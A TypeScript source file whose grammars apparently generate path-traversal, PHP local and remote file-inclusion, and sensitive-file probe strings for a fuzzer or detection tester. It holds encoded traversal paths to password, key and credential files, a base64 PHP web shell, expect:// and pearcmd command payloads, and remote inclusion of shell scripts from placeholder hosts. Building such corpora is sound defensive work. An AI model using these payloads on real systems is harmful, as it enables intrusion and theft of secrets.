// Paths that lead out of where they should stay, files that are included from elsewhere, and files nobody should ask for.
import type { Grammar } from '../grammar.ts';

export const traversal: Grammar = {
  start: [
    '§ups§§unix§', '§ups§§unix§', '/§word§/§ups§§unix§', '§word§/§ups§§unix§', '§ups§§unix§§cut§', '§winups§§win§', 'C:\\§win§', 'c:/§win§', '§word§\\§winups§§win§', '/var/www/§ups§§unix§', '/§unix§', '/§unix§', 'file:///§unix§', 'file://localhost/§unix§', '§ups§WEB-INF/web.xml', '/§ups§§app§', '§ups§§app§', '/%5c..%5c..%5c§win§', '/..;/..;/manager/html', '§ups§proc/self/§proc§', '/proc/self/§proc§', '\\\\§host§\\share\\§word§', '//§host§/§unix§', '....§ups§§unix§', './§ups§./§unix§', '~/.ssh/id_rsa', '/static/§ups§§app§', '§word§.jpg/§ups§§unix§', '§ups§§word§.php', '/§word§/..%2f..%2f..%2f§unix§', 'static//////§ups§§unix§', '§ups§§win§§cut§', '/..%c0%af..%c0%af§unix§', '..%252f..%252f..%252f§unix§', '..%u2215..%u2215§unix§', '/%2e%2e/%2e%2e/%2e%2e/§unix§', '%c0%ae%c0%ae/%c0%ae%c0%ae/§unix§', '..∕..∕..∕§unix§', '．．／．．／§unix§', '..\\..\\..\\§unix§', '..%5c..%5c§win§', '/..\\../..\\../§unix§',
  ],
  ups: ['../../../', '../../../../../../', '../../../../', '....//....//....//', '..././..././..././', '..;/..;/..;/', '/../../../../', '..%2f..%2f..%2f', '..%252f..%252f', '.%2e/.%2e/.%2e/', '%2e%2e%2f%2e%2e%2f', '..//..//..//', '../', '.../...//', '../../'],
  winups: ['..\\..\\..\\', '..\\..\\..\\..\\..\\', '..%5c..%5c..%5c', '..\\/..\\/', '....\\\\....\\\\', '..%255c..%255c'],
  unix: ['etc/passwd', 'etc/shadow', 'etc/hosts', 'etc/group', 'etc/issue', 'proc/version', 'root/.bash_history', 'home/user/.ssh/id_rsa', 'var/log/apache2/access.log', 'var/log/nginx/error.log', 'etc/nginx/nginx.conf', 'etc/mysql/my.cnf', 'usr/local/apache2/conf/httpd.conf', 'etc/crontab', 'root/.ssh/authorized_keys', 'etc/sudoers', 'etc/ssh/sshd_config', 'bin/sh', 'etc/php.ini', 'var/lib/mlocate/mlocate.db'],
  win: ['windows\\win.ini', 'boot.ini', 'windows/win.ini', 'windows\\system32\\drivers\\etc\\hosts', 'windows\\system32\\config\\sam', 'inetpub\\wwwroot\\web.config', 'Windows\\repair\\SAM', 'winnt\\system32\\cmd.exe', 'windows/system.ini', 'windows\\php.ini'],
  app: ['web.config', 'config.php', '.env', 'application.properties', 'wp-config.php', 'database.yml', '.git/config', 'settings.py', 'config/secrets.yml', 'id_rsa', 'server.key', 'appsettings.json'],
  proc: ['environ', 'cmdline', 'fd/0', 'status', 'maps', 'cwd/config.php', 'root/etc/passwd'],
  cut: ['%00', '%00.jpg', '%00.html', '?', '#', '%2500.png', '\0.gif', '/.', '%20', '::$DATA'],
};

export const inclusion: Grammar = {
  start: [
    'php://filter/convert.base64-encode/resource=§res§', 'php://filter/read=string.rot13/resource=§res§', 'php://input', 'PHP://filter/zlib.deflate/convert.base64-encode/resource=§res§', 'php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=§res§', 'php://fd/3', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==', 'data:text/plain,<?php phpinfo();?>', 'data://text/plain,<?php system("id");?>', 'expect://id', 'expect://ls%20-la', 'zip://§word§.zip#shell.php', 'zip:///tmp/§word§.jpg%23payload', 'phar://§word§.phar/x.txt', 'phar:///tmp/upload.jpg', 'compress.zlib:///§f§', 'glob:///§f§', 'ogg://x', 'rar://x.rar#y', 'ssh2.shell://user:pass@§host§:22/xterm', 'http://§host§/shell.txt?', 'https://§host§/c99.txt', 'http://§host§/§word§.php%00', '//§host§/§word§.txt', 'ftp://§host§/x.php', 'ftp://anonymous@§host§/r57.txt', '\\\\§host§\\a\\shell.php', 'http://203.0.113.9/cmd.txt?', 'hTTp://§host§/x.inc', 'http:§host§/shell.php', 'file:///§f§', 'jar:http://§host§/x.jar!/', 'netdoc:///§f§', 'dict://§host§:11211/stat', 'pearcmd&+config-create+/&/<?=system("id")?>+/tmp/x.php', 'php://temp', 'php://memory', 'data:;base64,PD89YGlkYDs/Pg==',
  ],
  res: ['index.php', 'config', '../config.php', '/etc/passwd', 'wp-config.php', 'admin/db.php'],
  f: ['etc/passwd', 'etc/hosts', 'var/www/config.php'],
};

/** Whole paths. */
export const sensitive: Grammar = {
  start: [
    '/.git/§git§', '/.git/config', '/.env§envs§', '/§word§/.env', '/.svn/entries', '/.hg/store', '/.bzr/README', '/.DS_Store', '/.htpasswd', '/.htaccess', '/.aws/credentials', '/.ssh/id_rsa', '/.ssh/authorized_keys', '/id_rsa', '/.bash_history', '/.npmrc', '/.dockerenv', '/.docker/config.json', '/.kube/config', '/.vscode/sftp.json', '/.idea/workspace.xml', '/web.config', '/WEB-INF/web.xml', '/META-INF/MANIFEST.MF', '/wp-config.php§bak§', '/config.php§bak§', '/§word§.php§bak§', '/index.php§bak§', '/backup.sql', '/dump.sql', '/§word§.sql.gz', '/db.sqlite3', '/backup.zip', '/backup.tar.gz', '/phpinfo.php', '/info.php', '/server-status', '/server-info', '/actuator/§act§', '/actuator/env', '/heapdump', '/jolokia/list', '/h2-console/', '/manager/html', '/phpmyadmin/', '/adminer.php', '/console/', '/_profiler/phpinfo', '/debug/pprof/', '/telescope/requests', '/.well-known/../.env', '/elmah.axd', '/trace.axd', '/composer.lock', '/docker-compose.yml', '/.gitlab-ci.yml', '/Dockerfile', '/config/database.yml', '/config/secrets.yml', '/application.properties', '/appsettings.json', '/local.settings.json', '/id_dsa', '/server.key', '/privkey.pem', '/wp-config.old', '/.mysql_history', '/.netrc', '/.pgpass', '/error_log', '/storage/logs/laravel.log', '/debug.log', '/.travis.yml', '/sftp-config.json', '/.s3cfg', '/.terraform/terraform.tfstate', '/terraform.tfstate', '/crossdomain.xml.bak', '/wp-json/wp/v2/users', '/xmlrpc.php', '/cgi-bin/test.cgi',
  ],
  git: ['HEAD', 'config', 'index', 'logs/HEAD', 'objects/info/packs', 'refs/heads/master'],
  envs: ['', '.local', '.production', '.bak', '.dev', '.old', '.example', '.save'],
  bak: ['.bak', '.old', '~', '.swp', '.save', '.orig', '.txt', '.1', '.inc', '.BAK', '.backup', '.dist'],
  act: ['env', 'heapdump', 'gateway/routes', 'mappings', 'configprops', 'threaddump', 'logfile', 'shutdown', 'jolokia'],
};
